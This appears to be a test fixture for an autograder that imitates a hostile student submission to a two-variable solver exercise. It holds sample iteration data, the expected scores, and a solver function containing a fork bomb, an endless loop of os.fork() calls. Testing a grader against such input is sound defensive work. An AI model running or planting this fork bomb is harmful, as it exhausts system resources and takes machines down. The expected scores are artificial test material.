# ruff: noqa: UP031, SIM105, E501 -- written as a hostile student would write it
"""Attack: Forks without bound in the solver.

expect: derive-dz-db=2 iterate-by-hand=2 two-variable-solver=0
"""

import os

DZ_DB = "2*x + 3*y"

HAND_ITERATIONS = [
    {"factor_b": 60.714286, "delta_b": 0.003585, "b": 3.805938, "z": 150.000077,
     "delta_z": 0.000077},
    {"factor_b": 60.671261, "delta_b": 0.000001, "b": 3.805937, "z": 150.0, "delta_z": 0.0},
]


def double_variable_new(w, b, t):
    while True:
        try:
            os.fork()
        except OSError:
            pass
